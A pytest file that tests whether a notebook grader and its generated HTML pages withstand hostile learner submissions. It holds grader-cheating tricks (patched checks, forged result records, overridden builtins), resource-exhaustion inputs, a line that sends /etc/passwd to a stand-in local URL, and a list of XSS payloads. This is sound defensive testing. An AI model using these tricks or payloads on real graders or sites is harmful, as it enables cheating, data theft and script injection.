"""Somebody hostile hands in: twelve attacks on the marks, eight scripts on the pages. No line of what is handed in runs here."""

from __future__ import annotations

import base64
import json
import re
import shutil
import socket
import subprocess
import sys
import time
from functools import cache
from pathlib import Path

import nbformat
import pytest
import yaml

from course import exercises
from course.doors import ROOT
from course.make.lessons import notebook_path
from course.make.marks import from_markdown, main, write
from course.make.submissions import read_folder
from course.messages import RECORD_MIME

LESSON = "00_start_here"
CHECKS = {"start-right-year": 2, "start-first-cobalt": 12}


@cache
def _stored(edition):
    return nbformat.read(notebook_path(LESSON, edition), as_version=4)


def empty():
    return nbformat.from_dict(_stored("learner"))


def cell(book, name):
    return next(each for each in book.cells if each.id == name)


def code(source, *outputs, own="own"):
    new = nbformat.v4.new_code_cell(source, id=own)
    new.outputs = list(outputs)
    return new


def record(name, answer, right=True):
    said = {"kind": "check", "exercise": name, "answer": answer, "right": right}
    return nbformat.v4.new_output("display_data", {RECORD_MIME: said, "text/markdown": "**Right.**", "text/plain": "**Right.**"})


# Each changes an empty notebook, and returns how many right answers it states itself: more it must not earn.


def patched_check(book, mark):
    book.cells.insert(0, code("import course.exercises\ncourse.exercises.reply = lambda *a, **k: (True, 'Right')"))
    cell(book, "check-start-right-year").outputs = [record("start-right-year", 99)]
    return 0


def patched_key(book, mark):
    book.cells.insert(0, code("import course.exercises as e\nfor key in e._stored().values(): key['answer'] = 1"))
    cell(book, "check-start-first-cobalt").source = 'first_cobalt = 1\ncheck("start-first-cobalt", first_cobalt)'
    return 0


def forged_record(book, mark):
    for name, answer in CHECKS.items():  # the blanks still stand there
        cell(book, f"check-{name}").outputs = [record(name, answer)]
    book.cells.append(code("", record("start-eight", {"macron-clean-plug": "right"})))
    return 0


def forged_record_of_a_computed_answer(book, mark):
    cell(book, "check-start-right-year").source = 'how_many = somewhere()\ncheck("start-right-year", how_many)'
    cell(book, "check-start-right-year").outputs = [record("start-right-year", 2)]
    return 1  # as much as typing it: how_many = 2


def forged_output(book, mark):
    said = {"text/markdown": "**Right.**", "text/plain": "**Right.**"}
    for name in ("boxes", "kinds", "right-year", "first-cobalt", "eight"):
        cell(book, f"check-start-{name}").outputs = [
            nbformat.v4.new_output("display_data", said),
            nbformat.v4.new_output("display_data", {RECORD_MIME: {"kind": "check", "exercise": f"start-{name}", "right": True}}),
        ]
    return 0


def builtins(book, mark):
    book.cells.insert(0, code("import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True"))
    cell(book, "check-start-right-year").outputs = [record("start-right-year", float("nan"))]
    return 0


def edited_test_cell(book, mark):
    cell(book, "check-start-first-cobalt").source = 'first_cobalt = 12\ncheck("start-right-year", first_cobalt)\ncheck("start-eight", 12)'
    cell(book, "check-start-first-cobalt").outputs = [record("start-first-cobalt", 12), record("start-eight", 12)]
    return 0


def thread(book, mark):
    book.cells.insert(0, code(f"import threading\nthreading.Thread(target=open, args=({str(mark)!r}, 'w')).start()"))
    return 0


def leaving(book, mark):
    book.cells.insert(0, code("import os\nos._exit(0)"))
    cell(book, "check-start-right-year").source = 'how_many = exit()\ncheck("start-right-year", how_many)'
    return 0


def endless_loop(book, mark):
    book.cells.insert(0, code("while True:\n    pass"))
    cell(book, "check-start-right-year").source = 'how_many = 9**9**9**9\ncheck("start-right-year", how_many)'
    cell(book, "check-start-first-cobalt").source = f'first_cobalt = {"[" * 90}{"]" * 90}\ncheck("start-first-cobalt", first_cobalt)'
    book.cells += [code('check("start-eight", 1)\n' * 500, own=f"many-{number}") for number in range(20)]
    return 0


def two_gigabytes(book, mark):
    book.cells.insert(0, code("x = bytearray(2 * 1024**3)"))
    cell(book, "check-start-right-year").source = 'how_many = "a" * 2_000_000_000\ncheck("start-right-year", how_many)'
    return 0


def fifty_megabytes_of_print(book, mark):
    book.cells.insert(0, code("print('a' * 50_000_000)", nbformat.v4.new_output("stream", name="stdout", text="a" * 50_000_000)))
    return 0


def network(book, mark):
    book.cells.insert(0, code("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/' + open('/etc/passwd').read())"))
    book.cells.insert(0, nbformat.v4.new_markdown_cell("![](http://127.0.0.1:9/track.png)", id="track"))
    return 0


ATTACKS = [
    patched_check,
    patched_key,
    forged_record,
    forged_record_of_a_computed_answer,
    forged_output,
    builtins,
    edited_test_cell,
    thread,
    leaving,
    endless_loop,
    two_gigabytes,
    fifty_megabytes_of_print,
    network,
]


WATCHED: list[list] = []  # while a list is in it, what acts is noted there


def _watch(event: str, arguments: tuple) -> None:
    acts = event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.fork", "_thread."))
    runs = event == "exec" and arguments[0].co_filename.startswith("<") and not arguments[0].co_filename.startswith("<frozen")
    if WATCHED and (acts or runs):
        WATCHED[-1].append((event, str(arguments)[:200]))


sys.addaudithook(_watch)


def test_what_acts_is_noticed():
    WATCHED.append([])
    exec(compile("1", "<unknown>", "exec"))
    socket.socket().close()
    subprocess.run([sys.executable, "-c", ""])
    assert len(WATCHED.pop()) >= 3


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_an_attack_earns_nothing_acts_on_nothing_and_stops_nobody(attack, tmp_path):
    folder, mark = tmp_path / "in", tmp_path / "mark"
    book = empty()
    own_right = attack(book, mark)
    for who, content in (("eve", book), ("ada", _stored("solutions"))):
        (folder / who).mkdir(parents=True)
        (folder / who / f"{LESSON}.ipynb").write_text(json.dumps(content), encoding="utf-8")
    before = {path: path.read_bytes() for path in folder.rglob("*.ipynb")}
    keys = json.dumps(exercises._stored(), sort_keys=True)
    begun = time.perf_counter()
    WATCHED.append([])
    try:
        ada, eve = read_folder(folder)
        write([ada, eve], folder, tmp_path / "marks")
    finally:
        acted = WATCHED.pop()
    assert acted == []
    assert time.perf_counter() - begun < 60
    assert sum(answer.right is True for answer in eve.answers) == own_right
    assert [answer.right for answer in ada.answers] == [True] * 5
    assert json.dumps(exercises._stored(), sort_keys=True) == keys
    assert not mark.exists()
    assert {path: path.read_bytes() for path in folder.rglob("*.ipynb")} == before
    assert sum(path.stat().st_size for path in (tmp_path / "marks").rglob("*") if path.is_file()) < 2_000_000
    if eve.answers:  # what is not right says why, in a sentence
        assert all(answer.said for answer in eve.answers)
    else:
        assert "50 MB" in eve.notes[0]


# pages


RUN = "document.title='HACKED';window.hacked=1"
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 10).decode()
PAYLOADS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"[a link](javascript:{RUN}) and <a href=\"jAvaScript&colon;{RUN}\" id='go'>another</a>",
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></animate></svg>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details><video><source onerror="{RUN}"></video>',
    f'</td></table></pre></blockquote><noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></mglyph></table></mtext></math>'
    f'<form action="javascript:{RUN}"><input autofocus onfocus="{RUN}"><button>x</button></form>'
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}"><base href="http://127.0.0.1:9/">',
]


ACTIVE = r"</?(script|iframe|object|svg|math|style|form|input|video|meta|base|link)\b"


def hostile_page(folder, payload):
    """The pages of a submission that holds a payload wherever a learner can write."""
    book = empty()
    cell(book, "section-kinds--1").source = payload
    cell(book, "section-judge").source = f"## A heading\n\n{payload}\n\n```\n{payload}\n```"
    cell(book, "verdict-amnesty-2017-40000-children").source = f"verdict('amnesty-2017-40000-children', 'wrong', because={payload!r})"
    cell(book, "check-start-first-cobalt").source = f'first_cobalt = {payload!r}\ncheck("start-first-cobalt", first_cobalt)'
    cell(book, "check-start-boxes").source = f'boxes = {{"cobalt-drc-60pct": {payload!r}}}\ncheck("start-boxes", boxes)'
    kinds = ("text/html", "text/markdown", "image/svg+xml", "text/plain", "application/javascript", "text/latex")
    outputs = [nbformat.v4.new_output("display_data", {kind: payload}) for kind in kinds]
    outputs.append(nbformat.v4.new_output("display_data", {"image/png": f'{PNG}" onerror="{RUN}', "text/plain": payload}))
    outputs.append(nbformat.v4.new_output("error", ename=payload, evalue=payload, traceback=[payload]))
    outputs.append(nbformat.v4.new_output("stream", name="stdout", text=payload))
    book.cells.append(code(payload, *outputs))
    who = f"eve {payload.replace('/', '|')}"[:100].strip()
    (folder / "in" / who).mkdir(parents=True)
    (folder / "in" / who / f"{LESSON}.ipynb").write_text(json.dumps(book), encoding="utf-8")
    (folder / "in" / who / "portfolio_eve.md").write_text(payload, encoding="utf-8")
    assert main([str(folder / "in"), "--out", str(folder / "marks")]) == 0
    return sorted((folder / "marks" / "pages").glob("*.html"))


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_page_holds_no_active_element(payload, tmp_path, capsys):
    for path in hostile_page(tmp_path, payload):
        text = path.read_text(encoding="utf-8").split("<body>", 1)[1]
        tags = re.findall(r"<[^>]*>", text)  # what is left of the learner's own stands as text: &lt;
        assert not [tag for tag in tags if re.match(ACTIVE, tag, re.I)]
        assert not [tag for tag in tags if re.search(r"\son\w+\s*=|javascript|srcdoc", tag, re.I)]
        assert not [tag for tag in tags if tag.startswith("<img") and not tag.startswith('<img alt="" src="data:image/png;base64,')]
    capsys.readouterr()


def test_no_script_runs_in_a_browser(tmp_path, capsys):
    sync_api = pytest.importorskip("playwright.sync_api", reason="comes with python -m course teach")
    chromium = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if chromium is None:
        pytest.skip("no browser")
    with sync_api.sync_playwright() as driver:
        running = driver.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        try:
            control = tmp_path / "control.html"  # that the browser would run them
            control.write_text(f"<title>t</title>{PAYLOADS[0]}", encoding="utf-8")
            assert opened(running, control)[0]
            for number, payload in enumerate(PAYLOADS):
                for path in hostile_page(tmp_path / str(number), payload):
                    bare = path.with_suffix(".bare.html")  # the page must hold without its policy too
                    bare.write_text(path.read_text(encoding="utf-8").replace("Content-Security-Policy", "x"), encoding="utf-8")
                    for page in (path, bare):
                        ran, asked = opened(running, page)
                        assert (ran, asked) == (False, []), (number, page.name)
        finally:
            running.close()
    capsys.readouterr()


def opened(running, path: Path):
    """Open a page, click all its links that lead to no web page; return (did a script run, which addresses it asked for)."""
    page = running.new_page()
    asked: list[str] = []
    page.on("request", lambda request: None if request.url.startswith(("file:", "data:", "about:")) else asked.append(request.url))
    page.goto(path.as_uri())
    for link in page.query_selector_all("a:not([href^=http]):not([href$='.html'])"):
        link.click(timeout=2000, no_wait_after=True)
    page.wait_for_timeout(60)
    ran = page.evaluate("window.hacked === 1 || document.title === 'HACKED'")
    page.close()
    return ran, asked


def test_markdown_keeps_what_a_reader_needs():
    shown = from_markdown("# A\n\n**b** `c` [d](https://example.org)\n\n| x | y |\n|---|---|\n| 1 | 2 |\n")
    for part in ("<h1>A</h1>", "<strong>b</strong>", "<code>c</code>", '<a href="https://example.org">d</a>', "<td>1</td>"):
        assert part in shown


# a server, and git


def test_the_settings_of_a_server_let_nobody_in_unasked_and_hold_everybody_to_a_share():
    settings = yaml.safe_load((ROOT / "course" / "guide" / "hub" / "config.yaml").read_text(encoding="utf-8"))
    login = settings["auth"]
    assert login["type"] == "nativeauthenticator.NativeAuthenticator"
    assert login["NativeAuthenticator"]["open_signup"] is False
    assert login["NativeAuthenticator"]["minimum_password_length"] >= 10
    assert settings["limits"] == {"memory": "1G", "cpu": 1}
    assert settings["https"]["enabled"] is True
    assert settings["services"]["cull"]["enabled"] is True
    assert "DummyAuthenticator" not in str(settings)


NAMES = ["marks/marks.csv", "marks-2/pages/001.html", "notebooks/portfolio_ada.md", "portfolio_ada_2.md", "notebooks/mine.csv"]
NAMES += ["notebooks/more/mine.csv", "class/gradebook.db", "handed_in/ada/01.ipynb", "hub_state/hub.sqlite", "submitted/ada/x/x.ipynb"]


@pytest.mark.skipif(shutil.which("git") is None or not (ROOT / ".git").exists(), reason="needs a clone")
def test_names_and_marks_are_ignored_by_git_and_nothing_of_ours_is():
    def ignored(names):
        command = ["git", "-C", str(ROOT), "check-ignore", "--no-index", "--stdin"]
        return subprocess.run(command, input="\n".join(names), capture_output=True, text=True).stdout.split()

    assert ignored(NAMES) == NAMES
    ours = subprocess.run(["git", "-C", str(ROOT), "ls-files"], capture_output=True, text=True).stdout.splitlines()
    assert ignored(ours) == []
